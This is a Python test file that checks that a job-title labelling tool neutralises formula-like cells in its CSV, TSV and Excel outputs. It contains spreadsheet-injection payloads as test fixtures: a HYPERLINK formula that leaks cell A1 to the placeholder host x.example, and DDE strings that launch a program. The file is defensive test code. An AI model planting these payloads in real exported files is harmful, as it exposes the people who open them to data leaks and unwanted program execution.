"""Labelled files that spreadsheets open safely and as they are: formula-like cells neutralised (CSV/TSV: a leading
', .xlsx: text with Excel's quote prefix, JSONL: as read) by `predict`, `predict-ray` and the service's file
labelling; `--excel` CSV with a byte-order mark and the input's separator.

The pipeline is built, not trained (random weights: conftest's `model`): what is tested is what is
written around the answers, and that each title is labelled as given.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import httpx
import pytest
from conftest import run_predict

from titlecat.predict import PredictOptions, check_title, predict_file

# Cells anyone can write into a CV or a CRM export, which a spreadsheet would run as a formula.
HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"Senior Buyer")',  # sends the sheet's cell A1 to x.example when clicked
    "@SUM(1+1)*cmd|' /C calc'!A0",  # DDE: starts a program where Excel allows DDE
    "=cmd|' /C calc'!A0",
    "+Head of Sales",
    "-",  # a title that is only '-': not_text, and still copied
    "\t=Vertriebsleiter",  # a leading tab
    "\r=Einkäuferin",  # a leading carriage return
    "  -2+3 Director",  # =, +, - and @ after spaces: an import that trims cells would see a formula
]
# Cells that no spreadsheet runs, written as read.
SAFE = ["Head of Sales", "C-Level Executive", "'=marked as text already", "Einkäuferin", "Sales - EMEA"]
CELLS = HOSTILE + SAFE


def shown(cell: str) -> str:
    """The cell as a neutralising CSV/TSV writer writes it."""
    return "'" + cell if cell in HOSTILE else cell


def runs_as_formula(cell: str) -> bool:
    """What a spreadsheet opening a CSV takes for a formula (OWASP): a cell starting with =, +, -, @, a tab or a
    carriage return, the first four also after spaces that an import may trim."""
    return cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in ("=", "+", "-", "@")


def write_hostile_csv(path: Path, delimiter: str = ",", encoding: str = "utf-8") -> list[dict]:
    """A CSV whose ids, titles and notes are each every cell of CELLS, in turn (each column holds each hostile
    cell once); its rows as dicts."""
    n = len(CELLS)
    rows = [{"id": CELLS[(i + 1) % n], "title": CELLS[i], "note": CELLS[(i + 2) % n]} for i in range(n)]
    with path.open("w", newline="", encoding=encoding) as file:
        writer = csv.DictWriter(file, ["id", "title", "note"], delimiter=delimiter)
        writer.writeheader()
        writer.writerows(rows)
    return rows


COPIED = ("id", "title", "note")  # the input's cells that the output copies (ARGS)
ARGS = ["--column", "title", "--id-column", "id", "--keep-title", "--keep-columns", "note"]


def copied(row: dict) -> tuple:
    return tuple(row[name] for name in COPIED)


def read_table(path: Path, delimiter: str = ",", encoding: str = "utf-8") -> list[dict]:
    with path.open(newline="", encoding=encoding) as file:
        return list(csv.DictReader(file, delimiter=delimiter))


def labelled_as_given(nlp, rows: list[dict], source_rows: list[dict]) -> tuple[list[tuple], list[tuple]]:
    """(status, seniority, department) of each output row, and what labelling each input title as read gives."""
    got = [(row["status"], row["seniority"] or None, row["department"] or None) for row in rows]
    want = []
    for source in source_rows:
        status, text = check_title(source["title"])
        doc = nlp(text) if status == "ok" else None
        want.append((status, doc._.seniority if doc else None, doc._.department if doc else None))
    return got, want


@pytest.mark.parametrize("suffix, delimiter", [(".csv", ","), (".tsv", "\t")])
def test_formula_like_cells_come_back_as_text_and_every_title_is_labelled_as_given(
    nlp, model, tmp_path, suffix, delimiter
):
    source_rows = write_hostile_csv(tmp_path / "crm.csv")
    output = tmp_path / f"out{suffix}"
    result = run_predict(tmp_path / "crm.csv", output, "-m", model, *ARGS)
    assert result.exit_code == 0, result.output
    rows = read_table(output, delimiter)
    assert len(rows) == len(source_rows)
    assert [copied(row) for row in rows] == [tuple(map(shown, copied(source))) for source in source_rows]
    got, want = labelled_as_given(nlp, rows, source_rows)
    assert got == want and {"ok", "not_text"} <= {status for status, *_ in got}
    assert not [cell for row in rows for cell in row.values() if runs_as_formula(cell)]
    count = 3 * len(HOSTILE)  # each hostile cell once as an id, a title and a note
    assert f"; {count} formula-like cells neutralised" in result.stderr
    assert f"ℹ {count} text cells began with =, +, -, @, a tab or a carriage return" in result.stderr
    assert "--no-neutralise-formulas: as read" in result.stderr
    # Off: the cells as read, nothing counted.
    result = run_predict(tmp_path / "crm.csv", output, "-m", model, *ARGS, "--no-neutralise-formulas")
    assert result.exit_code == 0 and "neutralised" not in result.stderr, result.output
    rows = read_table(output, delimiter)
    assert [copied(row) for row in rows] == [copied(source) for source in source_rows]


def test_a_jsonl_output_holds_the_cells_as_read(model, tmp_path):
    """JSONL feeds programs, not spreadsheets: its strings are the input's."""
    source_rows = write_hostile_csv(tmp_path / "crm.csv")
    result = run_predict(tmp_path / "crm.csv", tmp_path / "out.jsonl", "-m", model, *ARGS)
    assert result.exit_code == 0 and "neutralised" not in result.stderr, result.output
    rows = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines()]
    assert [copied(row) for row in rows] == [copied(source) for source in source_rows]


def test_an_excel_output_holds_no_formula_cell_and_marks_formula_like_text(model, tmp_path):
    """Every cell of OUT.xlsx is a value, none a formula (openpyxl and the sheet's XML say so); a formula-like
    text cell holds its text as read, with Excel's quote prefix (the mark of a cell typed with a leading ')."""
    from openpyxl import load_workbook

    source_rows = write_hostile_csv(tmp_path / "crm.csv")
    result = run_predict(tmp_path / "crm.csv", tmp_path / "out.xlsx", "-m", model, *ARGS)
    assert result.exit_code == 0, result.output
    assert f"; {3 * len(HOSTILE)} formula-like cells neutralised" in result.stderr
    sheet = load_workbook(tmp_path / "out.xlsx")["labels"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert cells and not [cell.coordinate for cell in cells if cell.data_type == "f"]
    with zipfile.ZipFile(tmp_path / "out.xlsx") as workbook:
        assert not re.search(rb"<f[ >]", workbook.read("xl/worksheets/sheet1.xml"))  # a formula element
    header = [cell.value for cell in next(sheet.iter_rows())]
    for row, source in zip(list(sheet.iter_rows())[1:], source_rows, strict=True):
        for name in COPIED:
            cell = row[header.index(name)]
            # XML reads a carriage return in a cell's text as a line break (a line break either way).
            as_read = source[name].replace("\r", "\n")
            assert (cell.value, cell.quotePrefix) == (as_read, source[name] in HOSTILE)
    result = run_predict(tmp_path / "crm.csv", tmp_path / "plain.xlsx", "-m", model, *ARGS, "--no-neutralise-formulas")
    assert result.exit_code == 0 and "neutralised" not in result.stderr
    sheet = load_workbook(tmp_path / "plain.xlsx")["labels"]
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f" or cell.quotePrefix]


# A German Excel's CSV: ';'-separated, a cell holding ';' or '"' quoted as a whole.
GERMAN_EXCEL = (
    'Titel;Firma\r\nGeschäftsführer;Müller GmbH\r\n"=HYPERLINK(""http://x.example"";""CFO"")";Bäckerei Öz\r\n'
)


@pytest.mark.parametrize("encoding", ["utf-8-sig", "cp1252"])  # Excel's "CSV UTF-8" and "CSV (Trennzeichen-getrennt)"
def test_excel_writes_a_german_excels_csv_as_that_excel_opens_it(model, tmp_path, encoding):
    """--excel: a UTF-8 byte-order mark (else Excel reads the file in its code page: mojibake) and the input's ';'
    (else German Excel puts each row in one cell); without it the output is as ever, and the run says why not."""
    source = tmp_path / "kontakte.csv"
    source.write_bytes(GERMAN_EXCEL.encode(encoding))
    args = ["-m", model, "--column", "Titel", "--keep-title", "--keep-columns", "Firma"]
    args += ["--encoding", "cp1252"] if encoding == "cp1252" else []
    output = tmp_path / "out.csv"
    result = run_predict(source, output, *args, "--excel")
    assert result.exit_code == 0, result.output
    assert output.read_bytes().startswith(b"\xef\xbb\xbfline;title;Firma;status;")
    rows = read_table(output, ";", "utf-8-sig")
    assert [(row["title"], row["Firma"]) for row in rows] == [
        ("Geschäftsführer", "Müller GmbH"),
        ('\'=HYPERLINK("http://x.example";"CFO")', "Bäckerei Öz"),
    ]
    assert "is separated by ';'" not in result.stderr
    # Without --excel: ',' and no byte-order mark, as before; the run says what --excel would do.
    result = run_predict(source, output, *args)
    assert result.exit_code == 0 and output.read_bytes().startswith(b"line,title,Firma,status,")
    assert [row["Firma"] for row in read_table(output)] == ["Müller GmbH", "Bäckerei Öz"]
    assert f"ℹ {source} is separated by ';' (as a German Excel saves CSV), {output} will be by ','" in result.stderr
    assert "--excel writes ';' and a byte-order mark" in result.stderr
    # --output-delimiter names the separator, with or without --excel; a .tsv stays tab-separated.
    result = run_predict(source, output, *args, "--excel", "--output-delimiter", ",")
    assert result.exit_code == 0 and output.read_bytes().startswith(b"\xef\xbb\xbfline,title,Firma,")
    result = run_predict(source, output, *args, "--output-delimiter", "semicolon")
    assert result.exit_code == 0 and output.read_bytes().startswith(b"line;title;Firma;")
    assert "is separated by ';'" not in result.stderr
    result = run_predict(source, tmp_path / "out.tsv", *args, "--excel")
    assert result.exit_code == 0 and (tmp_path / "out.tsv").read_bytes().startswith(b"\xef\xbb\xbfline\ttitle\t")


def test_excel_on_an_input_without_a_separator_writes_commas_and_a_bad_separator_is_named(model, tmp_path):
    source = tmp_path / "titles.jsonl"
    source.write_text('{"title": "Geschäftsführer"}\n{"title": "-"}\n', encoding="utf-8")
    output = tmp_path / "out.csv"
    result = run_predict(source, output, "-m", model, "--column", "title", "--keep-title", "--excel")
    assert result.exit_code == 0, result.output
    assert output.read_bytes().startswith(b"\xef\xbb\xbfline,title,status,")
    assert [row["title"] for row in read_table(output, ",", "utf-8-sig")] == ["Geschäftsführer", "'-"]
    for value, message in (("ab", "expected one character, or 'tab'"), ('"', "a quote or a line break cannot")):
        result = run_predict(
            source, tmp_path / "bad.csv", "-m", model, "--column", "title", "--output-delimiter", value
        )
        assert result.exit_code == 1 and f"✘ --output-delimiter {value!r}: {message}" in result.stderr
        assert not (tmp_path / "bad.csv").exists()


def test_predict_ray_writes_the_neutralised_excel_csv_of_predict(model, tmp_path):
    """predict-ray's driver writes with predict's writer and options: the same bytes, every row, every hostile cell
    neutralised, the count in its summary."""
    pytest.importorskip("ray")
    source_rows = write_hostile_csv(tmp_path / "crm.csv", delimiter=";")
    outputs = {}
    for command in ("predict", "predict-ray"):
        outputs[command] = tmp_path / f"{command}.csv"
        arguments = [str(tmp_path / "crm.csv"), str(outputs[command]), "-m", str(model), *ARGS, "--excel"]
        result = subprocess.run(
            [sys.executable, "-m", "titlecat", command, *arguments, "--no-progress"],
            capture_output=True, text=True, timeout=300,
        )  # fmt: skip
        assert result.returncode == 0, result.stderr[-3000:]
        assert f"; {3 * len(HOSTILE)} formula-like cells neutralised" in result.stderr
    assert outputs["predict-ray"].read_bytes() == outputs["predict"].read_bytes()
    rows = read_table(outputs["predict-ray"], ";", "utf-8-sig")
    assert [copied(row) for row in rows] == [tuple(map(shown, copied(source))) for source in source_rows]


def test_the_service_neutralises_the_cells_of_a_labelled_upload(model, tmp_path):
    """/v1/label-file (in-process): the file predict writes, hostile ids neutralised, the count in its summary
    header; the form fields of --no-neutralise-formulas, --excel and --output-delimiter; an .xlsx answer holds no
    formula; a bad separator is named by its form field."""
    from openpyxl import load_workbook

    from titlecat.serve import create_app

    source_rows = write_hostile_csv(tmp_path / "crm.csv")
    content = (tmp_path / "crm.csv").read_bytes()
    app = create_app(model)

    async def upload(**data) -> httpx.Response:
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url="http://titlecat") as client:
            form = {"column": "title", "id_column": "id", **data}
            return await client.post("/v1/label-file", files={"file": ("crm.csv", content)}, data=form, timeout=60)

    response = asyncio.run(upload())
    assert response.status_code == 200, response.text
    predict_file(
        app.state.files["nlp"],
        tmp_path / "crm.csv",
        tmp_path / "want.csv",
        PredictOptions.of(column="title", id_column="id", progress=False),
    )
    assert response.content == (tmp_path / "want.csv").read_bytes()
    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
    assert [row["id"] for row in rows] == [shown(source["id"]) for source in source_rows]
    # The title is written by default too (as predict writes it), neutralised as the ids are.
    assert [row["title"] for row in rows] == [shown(source["title"]) for source in source_rows]
    pairs = zip(rows, source_rows, strict=True)
    neutralised = sum(row[name] != source[name] for row, source in pairs for name in ("id", "title"))
    assert neutralised >= len(HOSTILE)
    assert response.headers["x-titlecat-summary"].endswith(f"; {neutralised} formula-like cells neutralised")
    response = asyncio.run(upload(neutralise_formulas="false"))
    assert [row["id"] for row in csv.DictReader(io.StringIO(response.text, newline=""))] == [
        source["id"] for source in source_rows
    ]
    assert "neutralised" not in response.headers["x-titlecat-summary"]
    response = asyncio.run(upload(excel="true", output_delimiter=";"))
    assert response.content.startswith(b"\xef\xbb\xbfline;id;title;status;")
    response = asyncio.run(upload(output="xlsx"))
    (tmp_path / "answer.xlsx").write_bytes(response.content)
    cells = [cell for row in load_workbook(tmp_path / "answer.xlsx")["labels"].iter_rows() for cell in row]
    assert len(cells) > len(source_rows) and not [cell for cell in cells if cell.data_type == "f"]
    response = asyncio.run(upload(output_delimiter="ab"))
    assert response.status_code == 422
    assert response.json()["detail"] == "output_delimiter: 'ab': expected one character, or 'tab'"
